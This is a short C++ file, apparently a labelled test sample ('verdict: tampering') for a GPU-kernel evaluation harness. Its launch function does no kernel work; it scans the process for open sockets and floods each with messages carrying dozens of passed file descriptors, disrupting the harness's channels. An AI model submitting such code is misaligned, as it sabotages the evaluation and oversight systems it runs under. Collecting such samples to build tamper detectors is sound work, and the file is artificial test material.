// tries: floods the node with descriptors beside garbage
// rows: H22 W
// verdict: tampering
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
struct Header {
  unsigned length;
  unsigned short op, version;
  unsigned long long sequence;
};
template <class F>
static void ForEachSocket(F use) {
  for (int fd = 3; fd < 256; ++fd) {
    struct stat about;
    if (fstat(fd, &about) == 0 && S_ISSOCK(about.st_mode)) use(fd);
  }
}

#include <fcntl.h>
extern "C" void launch(const Args&, cudaStream_t) {
  int null = open("/dev/null", O_RDONLY);
  ForEachSocket([&](int fd) {
    for (int i = 0; i < 64; ++i) {
      char byte[16] = {}, control[CMSG_SPACE(sizeof(int) * 60)] = {};
      iovec part = {byte, sizeof byte};
      msghdr message = {};
      message.msg_iov = &part;
      message.msg_iovlen = 1;
      message.msg_control = control;
      message.msg_controllen = sizeof control;
      cmsghdr* head = CMSG_FIRSTHDR(&message);
      head->cmsg_level = SOL_SOCKET;
      head->cmsg_type = SCM_RIGHTS;
      head->cmsg_len = CMSG_LEN(sizeof(int) * 60);
      for (int k = 0; k < 60; ++k) memcpy(CMSG_DATA(head) + k * sizeof(int), &null, sizeof null);
      sendmsg(fd, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
    }
  });
}
